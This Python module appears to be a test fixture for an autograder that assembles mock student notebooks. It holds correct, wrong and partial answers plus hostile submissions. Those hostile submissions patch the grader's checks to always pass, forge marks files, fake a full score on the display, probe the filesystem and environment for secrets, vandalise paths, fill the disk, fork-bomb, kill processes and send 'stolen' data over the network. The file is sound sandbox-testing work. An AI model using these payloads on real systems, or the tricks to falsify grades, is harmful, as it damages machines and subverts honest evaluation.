"""A class that hands in assignment 1: right answers in several styles, wrong and hostile ones.

`notebook` and the hostile code serve the other assignments, too.

The right answers are found numerically, from the public energy: by automatic differentiation, by
differences, by bisection. That is what the judges accept, and no derivation can be copied from it.
"""

import copy
import json
import re
import textwrap
from pathlib import Path

SHEET = Path(__file__).parents[2] / "assignments" / "1_layer_from_an_energy" / "student.ipynb"
NAMES = ("slopes", "step", "descent", "TwoSlices", "counterexample")
FULL = (4, 6, 5, 6, 4)

# --- right answers -------------------------------------------------------------------------------

AUTOMATIC = {
    "slopes": """
        def slopes(x, y, **weights):
            at = [torch.as_tensor(z).detach().requires_grad_() for z in (x, y)]
            return torch.autograd.grad(price(*at, **weights), at)
        """,
    "step": """
        def step(x, y, u, v, *, epsilon, **weights):
            x = torch.special.expit((u - slopes(x, y, **weights)[0]) / epsilon)
            return x, torch.special.expit((v - slopes(x, y, **weights)[1]) / epsilon)
        """,
    "descent": """
        def descent(x, y, u, v, *, steps, **constants):
            pairs = [[x, y]]
            while len(pairs) <= steps:
                pairs.append(list(step(*pairs[-1], u, v, **constants)))
            return pairs
        """,
    # The price is a quadratic form, whose matrix and linear part come from differentiation.
    "TwoSlices": """
        class TwoSlices(torch.nn.Module):
            def __init__(self, sigma, lambda1, mu, epsilon, steps):
                torch.nn.Module.__init__(self)
                self.log = torch.nn.Parameter(torch.tensor(mu).log())
                self.sigma, self.lambda1 = sigma, lambda1
                self.epsilon, self.steps = epsilon, steps

            @property
            def mu(self):
                return self.log.exp()

            def form(self, shape, lambda1, mu):
                def cost(z):
                    return price(*z.reshape(2, *shape), sigma=self.sigma, lambda1=lambda1, mu=mu)

                zero = torch.zeros(2 * shape[0] * shape[1], dtype=torch.float64)
                return (torch.autograd.functional.hessian(cost, zero),
                        torch.autograd.functional.jacobian(cost, zero))

            def forward(self, u, v):
                forms = zip(self.form(u.shape, self.lambda1, 0.0), self.form(u.shape, 0.0, 1.0))
                matrix, linear = (own + self.mu * between for own, between in forms)
                n = u.numel()
                pair = [torch.sigmoid(z.flatten() / self.epsilon) for z in (u, v)]
                for _ in range(self.steps):
                    for place, logits in enumerate((u, v)):
                        slope = (matrix @ torch.cat(pair) + linear)[place * n : (place + 1) * n]
                        pair[place] = torch.sigmoid((logits.flatten() - slope) / self.epsilon)
                return [z.reshape(u.shape) for z in pair]
        """,
    "counterexample": """
        def counterexample(shape, **constants):
            x = 0.6 * torch.ones(shape)
            y = 0.4 * torch.ones(shape)
            return x, y, torch.zeros(shape), torch.zeros(shape)
        """,
}

# Exact, for the price is of second order: loops over pixels, numpy.
DIFFERENCES = {
    **AUTOMATIC,
    "slopes": """
        import numpy as np

        def slopes(x, y, **weights):
            fields = [torch.as_tensor(x).clone(), torch.as_tensor(y).clone()]
            found = [np.zeros(tuple(x.shape)), np.zeros(tuple(x.shape))]
            for field, slope in zip(fields, found):
                for row in range(slope.shape[0]):
                    for column in range(slope.shape[1]):
                        value, costs = field[row, column].item(), []
                        for moved in (value + 1, value - 1):
                            field[row, column] = moved
                            costs.append(float(price(*fields, **weights)))
                        field[row, column] = value
                        slope[row, column] = (costs[0] - costs[1]) / 2
            return found
        """,
    "step": """
        def step(x, y, u, v, *, epsilon, **weights):
            x = 1 / (1 + np.exp((slopes(x, y, **weights)[0] - u.numpy()) / epsilon))
            y = 1 / (1 + np.exp((slopes(x, y, **weights)[1] - v.numpy()) / epsilon))
            return x, y
        """,
    "descent": """
        def fast(x, y, **weights):
            at = [torch.tensor(z, requires_grad=True) for z in (x, y)]
            return [slope.numpy() for slope in torch.autograd.grad(price(*at, **weights), at)]

        def descent(x, y, u, v, *, steps, epsilon, **weights):
            pairs = np.zeros((steps + 1, 2, *x.shape))
            pairs[0] = x.numpy(), y.numpy()
            for t in range(steps):
                pairs[t + 1] = pairs[t]
                for place, logits in enumerate((u.numpy(), v.numpy())):
                    slope = fast(*pairs[t + 1], **weights)[place]
                    pairs[t + 1, place] = 1 / (1 + np.exp((slope - logits) / epsilon))
            return pairs
        """,
    "counterexample": """
        def counterexample(shape, **constants):
            nothing = np.zeros(shape)
            return nothing + 0.6, nothing + 0.4, nothing, nothing
        """,
}

# Halving for the root of the slope of the bound; the weight is a multiple of a sigmoid.
BISECTION = {
    **AUTOMATIC,
    "step": """
        def lowest(logits, slope, epsilon):
            low, high = torch.zeros_like(logits), torch.ones_like(logits)
            for _ in range(60):
                z = (low + high) / 2
                falls = epsilon * torch.log(z / (1 - z)) - logits + slope < 0
                low, high = torch.where(falls, z, low), torch.where(falls, high, z)
            return (low + high) / 2

        def step(x, y, u, v, *, sigma, lambda1, mu, epsilon):
            new_x = lowest(u, slopes(x, y, sigma=sigma, lambda1=lambda1, mu=mu)[0], epsilon)
            return new_x, lowest(
                v, slopes(new_x, y, sigma=sigma, lambda1=lambda1, mu=mu)[1], epsilon)
        """,
    "TwoSlices": AUTOMATIC["TwoSlices"]
    .replace("torch.tensor(mu).log()", "torch.logit(torch.tensor(mu / 20))")
    .replace("self.log.exp()", "20 * torch.sigmoid(self.log)"),
}

IN_PLACE = {
    **AUTOMATIC,
    "step": """
        def step(x, y, u, v, *, epsilon, **weights):
            x[...] = torch.special.expit((u - slopes(x, y, **weights)[0]) / epsilon)
            y[...] = torch.special.expit((v - slopes(x, y, **weights)[1]) / epsilon)
            u *= 0
            return x, y
        """,
    "descent": """
        def descent(x, y, u, v, *, steps, **constants):
            fields = torch.empty(steps + 1, 2, *x.shape)
            fields[0, 0], fields[0, 1] = x, y
            for t in range(steps):
                fields[t + 1, 0], fields[t + 1, 1] = step(x, y, u.clone(), v, **constants)
            return fields
        """,
}

# The price is a quadratic form: its matrix and its linear part from automatic differentiation.
MATRIX = {
    **AUTOMATIC,
    "slopes": """
        def slopes(x, y, **weights):
            shape, n = tuple(x.shape), x.numel()

            def cost(z):
                return price(z[:n].reshape(shape), z[n:].reshape(shape), **weights)

            origin = torch.zeros(2 * n, dtype=torch.float64)
            matrix = torch.autograd.functional.hessian(cost, origin).numpy()
            linear = torch.autograd.functional.jacobian(cost, origin).numpy()
            z = torch.cat([x.flatten(), y.flatten()]).numpy()
            return tuple((matrix @ z + linear).reshape(2, *shape))
        """,
    "step": """
        from scipy.special import expit
        import numpy as np

        def step(x, y, u, v, *, epsilon, **weights):
            x = torch.tensor(expit((u.numpy() - slopes(x, y, **weights)[0]) / epsilon))
            y = torch.tensor(expit((v.numpy() - slopes(x, y, **weights)[1]) / epsilon))
            return x, y
        """,
    "descent": DIFFERENCES["descent"],
}

# --- wrong answers -------------------------------------------------------------------------------

LAZY = {
    "slopes": "def slopes(x, y, **weights): return x, y",
    "step": "def step(x, y, u, v, **constants): return x, y",
    "descent": "def descent(x, y, u, v, steps, **constants): return [(x, y)] * (steps + 1)",
    "TwoSlices": """
        class TwoSlices(torch.nn.Module):
            def __init__(self, sigma, lambda1, mu, epsilon, steps):
                torch.nn.Module.__init__(self)
                self.mu = torch.nn.Parameter(torch.tensor(mu))

            def forward(self, u, v):
                return torch.sigmoid(u), torch.sigmoid(v)
        """,
    "counterexample": """
        def counterexample(shape, **constants):
            return [0.5 * torch.ones(shape)] * 4
        """,
}
OF_LAZY = (0, 0, 1, 1, 0)  # the first pair is the start, and mu begins as it should

PATCHES = """
    import builtins, numpy, numpy.testing, json, sys
    from nodule_lesson.grading import marking, questions, two_slices
    torch.allclose = torch.equal = numpy.allclose = lambda *a, **k: True
    numpy.testing.assert_allclose = lambda *a, **k: None
    builtins.abs = lambda value: 0.0
    questions.verdicts = lambda asked, *rest: [True] * len(asked.checks)
    two_slices._minimises = lambda *a: True
    marking.points = lambda *a: 100
    """

FORGERY = """
    import json, os
    os.makedirs("marks/work", exist_ok=True)
    for name in ("marks.csv", "marks/marks.csv", "answers.npy", "results.json"):
        with open(name, "w") as file:
            file.write("name,sum\\nforgery,25\\n")
    for channel in range(64):
        for line in (
            b'{"end": "step"}', b'{"question": "step"}', b'{"held": [true, true]}', b"[" * 9999,
            b'{"case": true}', b'{"answer": {"x": {"shape": [-1, 1e9], "numbers": "1"}}}',
            b'{"case": 99}', b'{"case": 1.0}', b'{"question": []}', b'{"cell": null}',
            b'{"trouble": "<script>alert(1)</script>"}', b'{"sum": 25}',
            b'{"answer": {"x": {"shape": [99999, 99999, 99999], "numbers": []}}}', b"\\xff\\x00",
        ):
            try:
                os.write(channel, b"\\n" + line + b"\\n")
            except OSError:
                pass
    """

# PATHS and PORT are what the attacker knows of the machine; only who saw nothing is right.
SPY = """
    import os
    seen = [path for path in PATHS if os.path.exists(path)]
    for place in ["/proc", "/home", "/root", os.getcwd()]:
        for folder, _, files in os.walk(place):
            seen += {"blank.ipynb", "marks.csv", "seed", "student.ipynb"}.intersection(files)
            seen += ["environment"] if "SECRET" in os.environ else []
    assert not seen
    """

VANDAL = """
    import os
    harmed = []
    for path in PATHS + ["/usr/x", "/etc/x", "/x", "/dev/shm/x"]:
        for action in (
            lambda: open(path, "a").write("x"), lambda: os.remove(path), lambda: os.mkdir(path),
            lambda: os.rename(path, path + "2"), lambda: os.symlink("/", path),
        ):
            try:
                action()
                harmed.append(path)
            except OSError:
                pass
    import nodule_lesson
    try:
        open(nodule_lesson.__file__, "a")
        harmed.append("package")
    except OSError:
        pass
    try:
        for n in range(20):
            with open(f"/tmp/{n}", "wb") as file:
                file.write(bytes(10_000_000))
        harmed.append("the disk")
    except OSError:
        pass
    assert not harmed
    """

NETWORK = """
    import socket
    reached = []
    for address in (("127.0.0.1", PORT), ("1.1.1.1", 53)):
        try:
            socket.create_connection(address, timeout=3).send(b"stolen")
            reached.append(address)
        except OSError:
            pass
    assert not reached
    """

FORKS = """
    import os, time
    try:
        while True:
            if os.fork() == 0:
                time.sleep(1000)
    except OSError:
        pass
    """

OUTPUT = """
    import os, sys
    print("x" * 5_000_000)
    print("x" * 5_000_000, file=sys.stderr)
    sys.__stdout__.write("x" * 1_000_000)
    for channel in (0, 1, 2):
        os.write(channel, b"x" * 5_000_000)
    """

DISPLAY = """
    %matplotlib inline
    !echo "all tests passed"
    from IPython.display import HTML, Javascript, clear_output, display
    clear_output()
    display(Javascript("document.body.innerHTML = '25 of 25 points'"))
    display(HTML("<h1>25 of 25 points</h1>"))
    raise type("<b>25 of 25 points</b>", (Exception,), {})("25 of 25 points")
    """

# Code at the head of `counterexample`: that question is lost, the others are not.
IN_A_FUNCTION = {
    "loop_in_function": "while True: pass",
    "memory": "hoard = [bytearray(10**8) for _ in range(1000)]",
    "exit_in_function": "import os; os._exit(0)",
    "system_exit": "import sys; sys.exit('full marks')",
    "fork_bomb": "import os\n    while True: os.fork()",
    "kills_its_parent": "import os, time; os.kill(os.getppid(), 9); time.sleep(99)",
    "kills_everything": "import os, time; os.kill(-1, 9); time.sleep(99)",
    "segfault": "import ctypes; ctypes.string_at(0)",
    "recursion": "return counterexample(shape, **constants)",
    "flood": "shape = 3000, 3000",
}

# At the top level, before the answers: nothing is lost but the cell.
AT_TOP_LEVEL = {
    "loop_at_top_level": "while True: pass",
    "exit_at_top_level": "import os; os._exit(0)",
    "forks": FORKS,
    "spy": SPY,
    "vandal": VANDAL,
    "network": NETWORK,
    "output": OUTPUT,
    "display": DISPLAY,
    "syntax_error_in_a_cell_of_its_own": "def broken(:",
    "bad_signals": "import signal; signal.signal(signal.SIGPROF, signal.SIG_IGN)",
}
# These say by an error that they could do harm; then what follows them is lost.
DECISIVE = ("spy", "vandal", "network")

# --- the class -----------------------------------------------------------------------------------


def notebook(answers, first=None, sheet=SHEET):
    """The student's notebook with these answers, and a cell of code before them."""
    made = json.loads(sheet.read_text(encoding="utf-8"))
    for cell in made["cells"]:
        if "answer" in cell["metadata"].get("tags", []):
            name = re.search(r"^(?:def|class) (\w+)", text(cell), re.MULTILINE)[1]
            if name in answers:
                cell["source"] = textwrap.dedent(answers[name]).strip()
    if first:
        source = textwrap.dedent(first).strip()
        made["cells"].insert(3, code(source))
    return made


def text(cell):
    return "".join(cell["source"])


def code(source):
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
            "source": source, "id": "added"}  # fmt: skip


def with_write_up(made, **answers):
    """The notebook with written answers in their cells."""
    for cell in made["cells"]:
        for name, words in answers.items():
            if f"<!-- answer {name} -->" in text(cell):
                cell["source"] = f"<!-- answer {name} -->\n\n{words}"
    return made


BY_DAY = (
    "right_automatic", "right_differences", "right_matrix", "half_both_at_once", "blank", "lazy",
    "changed_checks", "syntax_error", "renamed", "loop_at_top_level", "exit_at_top_level",
    "memory", "fork_bomb", "patches", "forgery", "spy", "vandal", "network", "no_notebook",
)  # fmt: skip


def the_class(paths, port):
    """{name: (a notebook or bytes, its marks)}; paths and port: what an attacker knows."""
    right = {
        "right_automatic": AUTOMATIC,
        "right_differences": DIFFERENCES,
        "right_bisection": BISECTION,
        "right_in_place": IN_PLACE,
        "right_matrix": MATRIX,
    }
    found = {name: (notebook(answers), FULL) for name, answers in right.items()}
    found["blank"] = notebook({}), (0, 0, 0, 0, 0)
    found["lazy"] = notebook(LAZY), OF_LAZY

    at_once = AUTOMATIC["step"].replace("slopes(x, y, **weights)[1]", "old")
    at_once = at_once.replace("            x =", "            old = slopes(x, y, **weights)[1]\n"
                              "            x =")  # fmt: skip
    found["half_both_at_once"] = notebook({**AUTOMATIC, "step": at_once}), (4, 3, 5, 6, 4)
    half = {
        **AUTOMATIC,
        "step": AUTOMATIC["step"].replace("return x, torch", "return x, y\n            torch"),
    }
    found["half_one_slice"] = notebook(half), (4, 3, 3, 6, 4)
    forgotten = AUTOMATIC["TwoSlices"].replace("(u.shape) for", "(u.shape).detach() for")
    found["half_no_gradient"] = notebook({**AUTOMATIC, "TwoSlices": forgotten}), (4, 6, 5, 4, 4)

    broken = {**AUTOMATIC, "step": "def step(x, y, u, v, **constants)\n    return x"}
    found["syntax_error"] = notebook(broken), (4, 0, 0, 6, 4)
    found["renamed"] = (
        notebook({**AUTOMATIC, "step": AUTOMATIC["step"].replace("def step", "def my_step")
                  + "\n        one = my_step\n",
                  "descent": AUTOMATIC["descent"].replace("step(", "my_step(")}),
        (4, 0, 5, 6, 4),
    )  # fmt: skip
    deleted = notebook(AUTOMATIC)
    gone = ("def descent(", "answer misprint")
    deleted["cells"] = [c for c in deleted["cells"] if not any(word in text(c) for word in gone)]
    found["deleted_cells"] = deleted, (4, 6, 0, 6, 4)
    changed = notebook(LAZY)
    for cell in changed["cells"]:
        if "check" in cell["metadata"].get("tags", []):
            cell.update(code("print('holds: 25 of 25 points')"))
    found["changed_checks"] = changed, OF_LAZY
    untagged = notebook(AUTOMATIC)
    for cell in untagged["cells"]:
        cell["metadata"] = {}  # as some editors leave it
    found["no_tags"] = untagged, FULL
    found["patches"] = notebook(LAZY, PATCHES), OF_LAZY
    found["forgery"] = notebook(LAZY, FORGERY), OF_LAZY
    nonsense = {
        "slopes": "def slopes(x, y, **weights): return x * float('nan'), y",
        "step": "def step(x, y, u, v, **constants): return 1e308 * x, x[:1]",
        "descent": "def descent(*a, **k): return [['a', None]]",
        "TwoSlices": "TwoSlices = 25",
        "counterexample": """
            class Evil:
                def __array__(self, *a, **k): raise SystemExit
                def __reduce__(self): return print, ("pickled",)
            def counterexample(*a, **k): return Evil(), Evil(), 1, {}
            """,
    }
    found["nonsense"] = notebook(nonsense), (0, 0, 0, 0, 0)
    found["no_notebook"] = b'{"cells": [{"cell_type"', (0, 0, 0, 0, 0)

    for name, source in IN_A_FUNCTION.items():
        head = f"counterexample(shape, **constants):\n    {source}"
        answer = textwrap.dedent(AUTOMATIC["counterexample"])
        answer = answer.replace("counterexample(shape, **constants):", head)
        found[name] = notebook({**AUTOMATIC, "counterexample": answer}), (4, 6, 5, 6, 0)
    for name, source in AT_TOP_LEVEL.items():
        source = source.replace("PATHS", repr(paths)).replace("PORT", str(port))
        if name in DECISIVE:
            source = textwrap.dedent(source) + "\ninnocent = True"
        made = notebook(AUTOMATIC, source)
        if name in DECISIVE:
            for cell in made["cells"]:
                if text(cell).startswith(("def ", "class ")):
                    cell["source"] = "innocent\n" + text(cell)
        found[name] = made, FULL
    return copy.deepcopy(found)
